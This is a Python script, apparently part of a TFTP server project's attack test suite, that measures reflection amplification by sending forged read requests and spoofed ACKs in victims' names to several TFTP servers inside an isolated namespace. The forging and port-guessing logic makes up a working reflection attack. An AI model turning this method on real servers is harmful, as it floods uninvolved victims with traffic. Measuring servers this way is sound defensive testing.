#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""What forged ACKs bring: bytes out for each byte in, IP headers counted.

    make reflection

A request leaves in a victim's name, and then ACKs to each port that its transfer may have. The
attacker sees no answer. Of kedge it knows all data ports; of the others, which take any of the
kernel's, it tries as many at random. `--seconds` is how long they are listened to afterwards.
"""
import argparse
import random
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))

from attacks.lib import others  # noqa: E402
from attacks.lib.network import VICTIMS, namespace, silent_hosts  # noqa: E402
from attacks.lib.wire import Capture, Forger  # noqa: E402
from e2e.peers.tftp import RRQ, ack, request  # noqa: E402

SIZE = 20 << 20
BLKSIZE, WINDOW = 1428, 64
HEADERS = 28                # IPv4 and UDP
TRANSFERS, ROUNDS = 8, 12
PORTS = 1024
GAP = 0.05                  # between rounds: the window before is on its way
ATTACKS = {"ACKs that stream": ROUNDS, "one ACK, then silence": 1}


@dataclass
class Gain:
    """What the victims of one server got for what the attacker sent."""
    paid: int = 0
    got: int = 0
    first: float = 0.0
    last: float = 0.0

    def send(self, forge, source, target, payload):
        forge(source, target, payload)
        self.paid += HEADERS + len(payload)

    def take(self, seen):
        self.got += HEADERS + len(seen.payload)
        self.first = self.first or seen.at
        self.last = seen.at

    @property
    def ratio(self):
        return self.got / self.paid

    @property
    def seconds(self):
        return self.last - self.first


def bound_ports(at):
    """The UDP ports at this address, of all programs in this network."""
    wanted = "".join(f"{int(part):02X}" for part in reversed(at.split(".")))
    rows = Path("/proc/thread-self/net/udp").read_text().splitlines()[1:]
    here = [row.split()[1].split(":") for row in rows]
    return sorted(int(port, 16) for host, port in here if host == wanted)


def candidates(name, at):
    if name == "kedge, one port":
        return [69]
    if name == "kedge":
        return [port for port in bound_ports(at) if port != 69]
    return random.Random(1).sample(range(32768, 61000), PORTS)


def count(wire, gains):
    """What has passed to victims; the capture has room for a round."""
    wire.take()
    for seen in wire.seen:
        key = seen.source[0], seen.target[0].rpartition(".")[0]
        if key in gains:
            gains[key].take(seen)
    wire.seen.clear()
    assert wire.lost == 0, "the capture itself lost frames"


def attack(name, at, rounds, gains, forge, wire, network):
    """Eight transfers, each in the name of a host of its own."""
    gain = gains[at, network]
    ports = candidates(name, at)
    step = 1 if name in ("tftpd-hpa", "dnsmasq") else WINDOW
    for number in range(1, TRANSFERS + 1):
        victim = f"{network}.{number}", 3000
        gain.send(forge, victim, (at, 69),
                  request(RRQ, "big", blksize=BLKSIZE, windowsize=WINDOW))
        time.sleep(GAP)
        for block in range(0, rounds * step, step):
            for port in ports:
                gain.send(forge, victim, (at, port), ack(block))
            time.sleep(GAP)
            count(wire, gains)


def measure(kedge, seconds, names=None):
    """{attack: {server: Gain}}"""
    table = {}
    with tempfile.TemporaryDirectory() as place, namespace():
        root = Path(place) / "srv"
        Path(place).chmod(0o755)
        root.mkdir()
        root.chmod(0o777)
        for name, size in {"big": SIZE, "empty": 0}.items():
            (root / name).write_bytes(bytes(size))
            (root / name).chmod(0o644)
        silent_hosts()
        with others.running(kedge, root, names) as servers, Forger() as forger:
            for (what, rounds), network in zip(ATTACKS.items(), VICTIMS):
                with Capture() as wire:
                    row = table[what] = {name: Gain() for name in servers}
                    gains = {(at, network): row[name] for name, at in servers.items()}
                    for name, at in servers.items():
                        attack(name, at, rounds, gains, forger.send, wire, network)
                    end = time.monotonic() + seconds
                    while time.monotonic() < end:
                        time.sleep(GAP)
                        count(wire, gains)
    return table


def show(table, out=sys.stdout):
    servers = list(next(iter(table.values())))
    print("| forged |", " | ".join(servers), "|", file=out)
    print("|---|" + "---|" * len(servers), file=out)
    for what, row in table.items():
        cells = [f"×{row[s].ratio:.1f}, {row[s].got / 1e6:.1f} MB" for s in servers]
        print(f"| {what} |", " | ".join(cells), "|", file=out)


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--kedge", default=HERE.parents[1] / "build/kedge")
    parser.add_argument("--seconds", type=float, default=65)
    args = parser.parse_args()
    print(f"bytes out / bytes in of {TRANSFERS} transfers; {args.seconds:.0f} s listened to")
    show(measure(args.kedge, args.seconds))


if __name__ == "__main__":
    main()
